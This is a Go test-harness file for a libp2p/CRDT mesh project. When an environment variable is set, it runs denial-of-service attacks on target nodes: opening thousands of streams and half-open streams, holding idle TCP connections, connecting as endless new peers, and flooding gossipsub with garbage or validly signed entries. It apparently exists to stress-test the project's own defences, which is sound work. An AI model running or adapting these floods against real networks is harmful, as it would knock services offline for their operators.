package p2ptest

import (
	"bufio"
	"context"
	"crypto/ed25519"
	"crypto/rand"
	wire "encoding/binary"
	"fmt"
	"io"
	"net"
	"os"
	"os/signal"
	"sync"
	"sync/atomic"
	"time"

	"github.com/libp2p/go-libp2p"
	pb "github.com/libp2p/go-libp2p-pubsub/pb"
	"github.com/libp2p/go-libp2p/core/host"
	"github.com/libp2p/go-libp2p/core/network"
	"github.com/libp2p/go-libp2p/core/peer"
	"github.com/libp2p/go-libp2p/core/protocol"
	manet "github.com/multiformats/go-multiaddr/net"
	"google.golang.org/protobuf/proto"

	"github.com/numax-mesh/numax/crdt"
	"github.com/numax-mesh/numax/crdt/replica"
	"github.com/numax-mesh/numax/datastore"
)

// attackEnv names an attack; set, this program does it to the nodes at the
// addresses in its arguments until it is interrupted.
const attackEnv = "NUMAX_ATTACK"

const (
	manyOpened = 10_000 // streams or connections, at each node
	gossip     = protocol.ID("/meshsub/1.1.0")
)

func runAttack(how string, addrs []string) error {
	ctx, stop := signal.NotifyContext(context.Background(), os.Interrupt)
	defer stop()
	var victims []peer.AddrInfo
	for _, a := range addrs {
		info, err := peer.AddrInfoFromString(a)
		if err != nil {
			return err
		}
		victims = append(victims, *info)
	}
	e := &enemy{how: how}
	if how == "entries" {
		if err := e.sign(ctx); err != nil {
			return err
		}
	}
	var wg sync.WaitGroup
	for _, v := range victims {
		wg.Go(func() {
			if err := e.attack(ctx, v); err != nil && ctx.Err() == nil {
				fmt.Fprintln(os.Stderr, "attack:", err)
			}
		})
	}
	wg.Wait()
	_, err := fmt.Printf("%d got through, %d were refused\n", e.done.Load(), e.refused.Load())
	return err
}

// enemy counts what it did.
type enemy struct {
	how           string
	messages      [][]byte // valid ones
	done, refused atomic.Int64
}

func newEnemyHost() (host.Host, error) {
	return libp2p.New(libp2p.NoListenAddrs, libp2p.ResourceManager(&network.NullResourceManager{}))
}

func (e *enemy) attack(ctx context.Context, v peer.AddrInfo) error {
	switch e.how {
	case "connections":
		return e.connections(ctx, v)
	case "peers":
		return e.peers(ctx, v)
	}
	h, err := newEnemyHost()
	if err != nil {
		return err
	}
	defer h.Close()
	topics := make(chan string, 1)
	h.SetStreamHandler(gossip, func(s network.Stream) {
		if name, err := firstTopic(s); err == nil {
			topics <- name
		}
		_, _ = io.Copy(io.Discard, s)
	})
	if err := h.Connect(ctx, v); err != nil {
		return err
	}
	switch e.how {
	case "streams":
		return e.streams(ctx, func() (network.Stream, error) { return h.NewStream(ctx, v.ID, "/numax/sync/1", "/ipfs/ping/1.0.0") })
	case "half-open streams":
		return e.streams(ctx, func() (network.Stream, error) {
			c := h.Network().ConnsToPeer(v.ID)
			if len(c) == 0 {
				return nil, net.ErrClosed
			}
			s, err := c[0].NewStream(ctx)
			if err == nil {
				_, err = s.Write([]byte("\x13/multistream")) // and no more
			}
			return s, err
		})
	}
	select {
	case topic := <-topics:
		for e.flood(ctx, h, v.ID, topic) != nil && ctx.Err() == nil {
			e.refused.Add(1)
			_ = h.Connect(ctx, v) // they hung up
			time.Sleep(100 * time.Millisecond)
		}
	case <-ctx.Done():
	}
	return nil
}

// streams opens, and holds what is not closed.
func (e *enemy) streams(ctx context.Context, open func() (network.Stream, error)) error {
	for range manyOpened {
		s, err := open()
		if err != nil {
			e.refused.Add(1)
			continue
		}
		e.done.Add(1)
		go func() {
			if _, err := io.Copy(io.Discard, s); err != nil && ctx.Err() == nil {
				e.done.Add(-1)
				e.refused.Add(1)
			}
		}()
	}
	<-ctx.Done()
	return nil
}

// connections opens such as say nothing, and opens anew what is closed.
func (e *enemy) connections(ctx context.Context, v peer.AddrInfo) error {
	at, err := manet.ToNetAddr(v.Addrs[0])
	if err != nil {
		return err
	}
	var d net.Dialer
	slots := make(chan struct{}, manyOpened)
	var wg sync.WaitGroup
	defer wg.Wait()
	for ctx.Err() == nil {
		slots <- struct{}{}
		wg.Go(func() {
			defer func() { <-slots }()
			c, err := d.DialContext(ctx, "tcp", at.String())
			if err != nil {
				return
			}
			defer c.Close()
			stop := context.AfterFunc(ctx, func() { _ = c.Close() })
			defer stop()
			if n, _ := c.Read(make([]byte, 1)); n > 0 { // it began to talk
				e.done.Add(1)
				_, _ = io.Copy(io.Discard, c)
			} else {
				e.refused.Add(1)
			}
		})
	}
	return nil
}

// peers connects as ever new ones.
func (e *enemy) peers(ctx context.Context, v peer.AddrInfo) error {
	var all []host.Host
	defer func() {
		for _, h := range all {
			_ = h.Close()
		}
	}()
	for ctx.Err() == nil {
		h, err := newEnemyHost()
		if err != nil {
			return err
		}
		all = append(all, h)
		if err := h.Connect(ctx, v); err != nil {
			e.refused.Add(1)
		} else {
			e.done.Add(1)
		}
	}
	return nil
}

// flood writes gossip messages as fast as they are taken.
func (e *enemy) flood(ctx context.Context, h host.Host, victim peer.ID, topic string) error {
	s, err := h.NewStream(ctx, victim, gossip)
	if err != nil {
		return err
	}
	defer s.Reset()
	stop := context.AfterFunc(ctx, func() { _ = s.Reset() })
	defer stop()
	garbage := make([]byte, 1024)
	_, _ = rand.Read(garbage) // never fails
	w := bufio.NewWriterSize(s, 64<<10)
	for n := uint64(0); ; n++ {
		data := garbage
		if e.how == "entries" {
			if n >= uint64(len(e.messages)) {
				n = 0 // the same once more
			}
			data = e.messages[n]
		} else {
			wire.BigEndian.PutUint64(garbage, n)
		}
		rpc, err := proto.Marshal(&pb.RPC{Publish: []*pb.Message{{Data: data, Topic: &topic}}})
		if err != nil {
			return err
		}
		if _, err := w.Write(wire.AppendUvarint(nil, uint64(len(rpc)))); err != nil {
			return err
		}
		if _, err := w.Write(rpc); err != nil {
			return err
		}
		e.done.Add(1)
	}
}

// firstTopic reads which topic a peer tells of.
func firstTopic(s network.Stream) (string, error) {
	r := bufio.NewReader(s)
	for {
		size, err := wire.ReadUvarint(r)
		if err != nil {
			return "", err
		}
		b := make([]byte, min(size, 1<<20))
		if _, err := io.ReadFull(r, b); err != nil {
			return "", err
		}
		var rpc pb.RPC
		if err := proto.Unmarshal(b, &rpc); err != nil {
			return "", err
		}
		for _, sub := range rpc.Subscriptions {
			return sub.GetTopicid(), nil
		}
	}
}

// validEntries is how many entries of one op an enemy signs.
const validEntries = 20_000

// sign makes valid messages: those of a replica that writes into its own store.
func (e *enemy) sign(ctx context.Context) error {
	_, key, err := ed25519.GenerateKey(rand.Reader)
	if err != nil {
		return err
	}
	store, err := datastore.Open("", datastore.Options{})
	if err != nil {
		return err
	}
	defer store.Close()
	r, err := replica.Open(replica.Options{Store: store, Key: key, Network: replica.OpenNetwork("lab"), Mesh: (*signed)(e)})
	if err != nil {
		return err
	}
	d, err := r.Dataset("default")
	if err != nil {
		return err
	}
	var wg sync.WaitGroup
	running, stop := context.WithCancel(ctx)
	wg.Go(func() { _ = r.Run(running) })
	defer wg.Wait()
	defer stop()
	for range validEntries {
		_, err := d.Update(ctx, crdt.GCounter, "flood", func(o crdt.Object, now replica.Now) (crdt.Op, bool) {
			return o.(*crdt.GCounterState).Inc(now.Author, 1), true
		})
		if err == nil {
			err = r.Sync(ctx)
		}
		if err != nil {
			return err
		}
	}
	return nil
}

// signed is the network of a replica whose messages are kept.
type signed enemy

func (*signed) Self() string    { return "" }
func (*signed) Peers() []string { return nil }
func (s *signed) Publish(_ replica.DatasetID, message []byte) error {
	s.messages = append(s.messages, message)
	return nil
}

func (*signed) Open(context.Context, string) (io.ReadWriteCloser, error) { return nil, net.ErrClosed }
